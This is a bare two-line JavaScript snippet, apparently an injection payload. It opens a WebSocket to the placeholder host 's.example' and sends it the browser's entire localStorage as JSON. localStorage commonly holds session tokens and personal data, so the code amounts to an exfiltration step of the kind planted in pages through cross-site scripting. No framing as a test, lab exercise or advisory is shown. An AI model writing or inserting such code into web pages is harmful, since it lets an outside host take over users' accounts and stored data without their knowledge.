const ws = new WebSocket('wss://s.example');
ws.onopen = () => ws.send(JSON.stringify({ ...localStorage }));
